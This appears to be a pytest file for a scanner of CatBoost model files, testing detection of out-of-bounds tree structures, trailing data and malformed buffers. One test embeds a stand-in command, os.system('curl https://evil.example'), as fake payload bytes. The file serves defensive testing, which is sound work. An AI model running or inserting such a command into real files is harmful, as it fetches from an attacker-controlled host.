"""CatBoost models: what the FlatBuffer says, and trees that lead out of it."""

import json
import struct
from typing import Any

import pytest
from hypothesis import given, settings

from garrison.core.facts import Artifact
from tests.support import assert_no_failure, damaged, facts_of, findings_of


class Ref:
    """Something that a field points at, written behind the table."""

    def __init__(self, data: Any) -> None:
        self.data = data


def table(*fields: bytes | Ref | None) -> tuple[bytes, list[tuple[int, Ref]]]:
    """A table's bytes with its vtable in front, and where its pointers stand."""
    inline, offsets, pointers = b"", [], []
    for field in fields:
        if field is None:
            offsets.append(0)
            continue
        offsets.append(4 + len(inline))
        if isinstance(field, Ref):
            pointers.append((4 + len(inline), field))
            field = bytes(4)
        inline += field
    vtable = struct.pack(f"<HH{len(offsets)}H", 4 + 2 * len(offsets), 4 + len(inline), *offsets)
    vtable += bytes(-len(vtable) % 4)
    shift = len(vtable)
    return vtable + struct.pack("<i", shift) + inline, [(shift + place, ref) for place, ref in pointers]


def place(buffer: bytearray, value: Any) -> int:
    """Write a value at the end of the buffer and say where it starts."""
    buffer += bytes(-len(buffer) % 4)
    start = len(buffer)
    if isinstance(value, str):
        buffer += struct.pack("<I", len(value)) + value.encode() + b"\0"
    elif isinstance(value, bytes):
        buffer += value
    elif isinstance(value, list):
        buffer += struct.pack("<I", len(value)) + bytes(4 * len(value))
        for index, item in enumerate(value):
            slot = start + 4 + 4 * index
            target = place(buffer, item)
            buffer[slot : slot + 4] = struct.pack("<I", target - slot)
    else:
        data, pointers = value
        shift = struct.unpack_from("<H", data)[0]
        shift += -shift % 4
        buffer += data
        for offset, ref in pointers:
            target = place(buffer, ref.data)
            buffer[start + offset : start + offset + 4] = struct.pack("<I", target - start - offset)
        return start + shift
    return start


def vector(code: str, *values: float) -> Ref:
    return Ref(struct.pack("<I", len(values)) + struct.pack(f"<{len(values)}{code}", *values))


def info(key: str, value: str) -> Any:
    return table(Ref(key), Ref(value))


def model(
    splits: tuple[int, ...] = (0, 1, 2),
    sizes: tuple[int, ...] = (2, 1),
    starts: tuple[int, ...] = (0, 2),
    leaves: int = 6,
    steps: tuple[int, ...] = (),
    leaf_ids: tuple[int, ...] = (),
    parts: tuple[str, ...] = (),
) -> bytes:
    feature = table(None, struct.pack("<i", 0), struct.pack("<i", 0), vector("f", 0.5, 1.5, 2.5))
    trees = table(
        struct.pack("<i", 1),
        vector("i", *splits),
        vector("i", *sizes),
        vector("i", *starts),
        None,
        Ref([feature]),
        None,
        None,
        vector("d", *[0.5] * leaves),
        None,
        vector("I", *steps) if steps else None,
        vector("I", *leaf_ids) if steps else None,
    )
    params = json.dumps({"loss_function": {"type": "Logloss", "params": {}}})
    core = table(
        Ref("FlabuffersModel_v1"),
        Ref(trees),
        Ref([info("catboost_version_info", "Branch: tags/v1.2.10"), info("params", params)]),
        Ref(list(parts)) if parts else None,
    )
    buffer = bytearray(4)
    root = place(buffer, core)
    buffer[:4] = struct.pack("<I", root)
    return b"CBM1" + struct.pack("<I", len(buffer)) + bytes(buffer)


def rules(data: bytes) -> list[tuple[str, str]]:
    return [(item.rule, item.severity) for item in findings_of(data, "model.cbm")]


def test_an_honest_model_gives_no_finding() -> None:
    assert rules(model()) == []
    (artifact,) = [f for f in facts_of(model()) if isinstance(f, Artifact)]
    assert artifact.details == {
        "framework": "catboost",
        "version": "FlabuffersModel_v1",
        "catboost": "1.2.10",
        "objective": "Logloss",
        "trees": 2,
        "features": 1,
    }


def test_trees_that_are_not_symmetric() -> None:
    right, left = 1 | 2 << 16, 0
    good = model(steps=(right, left, left), leaf_ids=(0xFFFFFFFF, 0, 1), sizes=(3,), starts=(0,))
    assert rules(good) == []
    beyond = model(steps=(right, left, 1), leaf_ids=(0xFFFFFFFF, 0, 1), sizes=(3,), starts=(0,))
    assert rules(beyond) == [("tree-structure", "high")]
    leaf = model(steps=(right, left, left), leaf_ids=(0xFFFFFFFF, 0, 900), sizes=(3,), starts=(0,))
    assert rules(leaf) == [("tree-structure", "high")]


@pytest.mark.parametrize(
    "broken",
    [
        model(splits=(0, 1, 99)),
        model(splits=(0, 1, -1)),
        model(sizes=(2, 9)),
        model(sizes=(2, -1)),
        model(starts=(0, 50)),
        model(leaves=3),
    ],
    ids=["split", "negative split", "sizes", "negative size", "start", "leaves"],
)
def test_trees_that_lead_out_of_the_model(broken: bytes) -> None:
    assert ("tree-structure", "high") in rules(broken)


def test_bytes_behind_the_model() -> None:
    assert rules(model() + b"more") == [("trailing-data", "low")]
    assert rules(model(parts=("static_provider_v1",)) + b"more") == []


def test_what_is_no_flatbuffer_is_malformed_and_no_more() -> None:
    fake = b"CBM1" + struct.pack("<I", 60) + b"os.system('curl https://evil.example')".ljust(60)
    assert rules(fake) == [("malformed", "low")]
    assert rules(b"CBM1\xff\xff\xff\x7f") == [("malformed", "low")]


def test_an_export_as_json_is_named_for_what_it_is() -> None:
    export = {"features_info": {"float_features": []}, "model_info": {}, "oblivious_trees": [{}, {}]}
    data = json.dumps(export).encode()
    (artifact,) = [f for f in facts_of(data) if isinstance(f, Artifact)]
    assert (artifact.format, artifact.details["trees"]) == ("catboost-json", 2)
    assert findings_of(data, "model.json") == []


@given(damaged(model()))
@settings(max_examples=300, deadline=None)
def test_broken_files_do_not_fail(data: bytes) -> None:
    assert_no_failure(data)
